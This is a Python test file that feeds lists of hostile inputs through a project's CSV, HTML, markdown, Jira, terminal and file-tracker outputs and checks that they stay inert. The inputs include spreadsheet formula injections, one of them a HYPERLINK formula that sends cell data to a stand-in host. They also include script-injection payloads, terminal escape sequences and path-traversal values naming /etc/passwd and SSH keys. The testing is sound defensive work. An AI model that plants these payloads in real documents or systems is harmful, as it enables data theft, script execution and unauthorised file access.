"""Hostile texts through everything that writes them somewhere: nothing in them is computed, followed, run or hidden there."""

import csv
import io
import json
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from qa_agents.checkpoint.markup import Writer
from qa_agents.cli.text import one_line, printable
from qa_agents.library.export import as_csv as library_csv
from qa_agents.library.schema import Input
from qa_agents.llm.redact import mask
from qa_agents.llm.sanitise import spreadsheet_cell
from qa_agents.plans.export.cells import as_csv
from qa_agents.plans.export.documents import inline
from qa_agents.results.report_formats.job_summary import code, plain
from qa_agents.trackers.file import FileTracker
from qa_agents.trackers.jira_text import inert
from qa_agents.trackers.jira_text import plain as plain_of_jira
from qa_agents.trackers.schema import Action

COMPUTED = ("=1+1", "＝1+1", "+1+1", "＋1", "-1+1", "－1", "@SUM(1)", "＠SUM(1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', ";=1",
            "；=1+1", "\u200b=1+1", "=HYPERLINK(\"https://x.invalid/?d=\"&A1)")  # fmt: skip
MARKUP = (
    "![x](https://c.invalid/?d=1)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "<https://c.invalid/>", "[a|https://c.invalid]", "!https://c.invalid/a.png!", "{html}<b>x</b>{html}", "[~accountid:all]",
    "[link][1]\n\n[1]: https://c.invalid/?q=1", "<details open ontoggle=alert(1)>", "`${{ secrets.TOKEN }}`", "| a | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\[x](https://c.invalid)", "`` ` ``<b>", "# head",
    "https://c.invalid www.c.invalid",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]8;;https://c.invalid\x07click\x1b]8;;\x07", "\x1b[8mhidden\x1b[0m", "\x9b31m",
    "line\rAPPROVED", "\x9d0;t\x9c", "\u202egnp.exe", "a\u200bb", "\U000e0041\U000e0042", "\x07\x08",
)  # fmt: skip
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..%2f..%2fx",
    "C:\\win.ini",
    "prd\x1b.json",
    "~/.ssh/id_rsa",
    "a" * 500,
    "CON",
    "..",
)
SPLIT = ("foo;=1+1", "a,=1+1", 'a","=1+1')
"""Another cell begins inside, where separators are not quoted."""
SINKS = {"csv_cell": COMPUTED + SPLIT, "markdown_html_jira": MARKUP, "terminal": TERMINAL, "path": PATHS}


class Live(HTMLParser):
    """Collects every element that a browser would make."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)


def every_text() -> tuple[str, ...]:
    return tuple(text for texts in SINKS.values() for text in texts)


def check_spreadsheet(text: str) -> None:
    for dialect in (",", ";"):  # whichever separates cells where the file is opened
        body = as_csv(["text", "more"], [[text, "x"]])
        cells = next(iter(list(csv.reader(io.StringIO(body, newline=""), delimiter=dialect))[1:]))
        for cell in cells:
            first = "'" if cell.startswith("'") else unicodedata.normalize("NFKC", cell).lstrip(" \"';,")
            assert not first.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cells
    assert not any(unicodedata.category(char) in ("Cf", "Cs") for char in spreadsheet_cell(text))


def check_html(text: str) -> None:
    page = Live()
    page.feed(Writer(mask).text(text))
    page.close()
    assert set(page.found) <= {"mark"}


def check_markdown(text: str) -> None:
    for escape in (plain, code):
        rendered = MarkdownIt("gfm-like", {"linkify": False}).enable("table").render(f"Before {escape(text)} after")
        page = Live()
        page.feed(rendered)
        assert set(page.found) <= {"p", "code"}, (escape, rendered)
    page = Live()
    page.feed(MarkdownIt("commonmark").render(f"Before {inline(text)} after"))
    assert not {"a", "img", "script", "details", "b"} & set(page.found)


def check_jira(text: str) -> None:
    marked = inert(text)
    assert not set(marked) & set("{}[]!|\\<>^~")
    assert "://" not in marked
    assert plain_of_jira(marked) == text.replace("\r\n", "\n")


def check_terminal(text: str) -> None:
    for shown in (printable(text), one_line(text)):
        assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs") for char in shown if char not in "\n\t")


@pytest.mark.parametrize("text", every_text())
def test_no_text_computes_runs_links_or_hides_wherever_it_is_written(text: str) -> None:
    check_spreadsheet(text)
    check_html(text)
    check_markdown(text)
    check_jira(text)
    check_terminal(text)


@pytest.mark.parametrize("key", every_text())
def test_an_issue_key_names_a_file_within_the_folder_and_no_other(key: str, tmp_path: Path) -> None:
    folder = tmp_path / "tracker"
    tracker = FileTracker(folder)
    tracker.apply(Action(kind="create_issue", target=key, params={"fields": {"summary": "x"}}), "k1")
    files = [path for path in tmp_path.rglob("*") if path.is_file() and path.name != ".lock"]
    assert [path.parent for path in files] == [folder]
    found = tracker.get(key)
    assert found is not None
    assert found.key == key


def test_the_public_hostile_values_do_nothing_either(shared_data: Path, tmp_path: Path) -> None:
    file = shared_data / "injection" / "output_sinks.jsonl"
    if not file.is_file():
        pytest.skip(f"{file} is not here")
    texts = [json.loads(line)["text"] for line in file.read_text(encoding="utf-8").splitlines()]
    assert len(texts) > 100
    for text in texts:
        check_spreadsheet(text)
        check_html(text)
        check_markdown(text)
        check_jira(text)
        check_terminal(text)


@pytest.mark.parametrize("text", COMPUTED)
def test_the_librarys_table_computes_nothing_and_keeps_the_exact_text_beside(text: str) -> None:
    one = Input(id="i", kind="boundary", text=text, property="accepts", tags={}, made_from=("t",))
    (row,) = csv.DictReader(io.StringIO(library_csv([one]), newline=""))
    assert json.loads(row["text_json"]) == text
    assert row["text"].startswith("'")


@pytest.mark.parametrize("text", ["plain", "3 - 2", "a=b", "Ä＝", "5 € per - night", "'quoted'", ""])
def test_ordinary_words_stay_as_they_are_in_a_spreadsheet(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_square_brackets_are_no_styles_on_the_terminal() -> None:
    from rich.markup import escape

    out = io.StringIO()
    Console(file=out, force_terminal=True, color_system="truecolor").print(
        escape(printable("[link=https://c.invalid]x[/link]"))
    )
    assert "\x1b]8;" not in out.getvalue()
